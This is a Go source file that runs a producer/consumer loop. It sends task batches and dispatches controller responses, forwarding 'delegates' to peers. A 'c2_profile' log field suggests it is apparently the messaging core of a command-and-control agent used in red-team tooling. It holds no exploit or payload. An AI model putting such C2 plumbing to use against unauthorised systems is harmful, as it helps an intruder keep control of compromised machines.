package profile

import (
	"context"
	"errors"
	"time"

	"go.uber.org/zap"
	"golang.org/x/sync/errgroup"

	"pipemesh/pkg/api"
	"pipemesh/pkg/queue"
)

// Run drives steady-state traffic until ctx is done: a producer sends every
// non-empty batch from the task source and a consumer hands controller
// responses back to it, forwarding their delegates first. It returns nil on
// cancellation.
func (p *Profile) Run(ctx context.Context) error {
	if p.tasks == nil {
		return errors.New("profile: no task source")
	}
	g, ctx := errgroup.WithContext(ctx)
	g.Go(func() error { return p.produce(ctx) })
	g.Go(func() error { return p.consume(ctx) })
	err := g.Wait()
	if errors.Is(err, context.Canceled) || errors.Is(err, queue.ErrClosed) {
		return nil
	}
	return err
}

func (p *Profile) produce(ctx context.Context) error {
	t := time.NewTimer(0)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-t.C:
		}
		for {
			batch, ok := p.tasks.TryGetNextOutboundBatch()
			if !ok || batch.Empty() {
				break
			}
			if err := p.send(batch); err != nil {
				if errors.Is(err, queue.ErrClosed) {
					return err
				}
				zap.L().Warn("send batch failed", zap.Error(err))
				break
			}
		}
		t.Reset(p.cfg.PollInterval())
	}
}

func (p *Profile) consume(ctx context.Context) error {
	for {
		m, err := p.in.Recv(ctx, api.TypeMessageResponse)
		if err != nil {
			return err
		}
		p.dispatch(m.(*api.MessageResponse))
	}
}

func (p *Profile) dispatch(resp *api.MessageResponse) {
	for _, d := range resp.Delegates {
		if p.router != nil && p.router.Route(d) {
			p.routed.Add(1)
			continue
		}
		p.missed.Add(1)
		zap.L().Warn("no route for delegate", zap.String("peer", d.UUID), zap.String("c2_profile", d.C2Profile))
	}
	if !p.tasks.HandleInboundResponse(resp) {
		zap.L().Debug("task source rejected response", zap.String("action", resp.Action))
	}
}
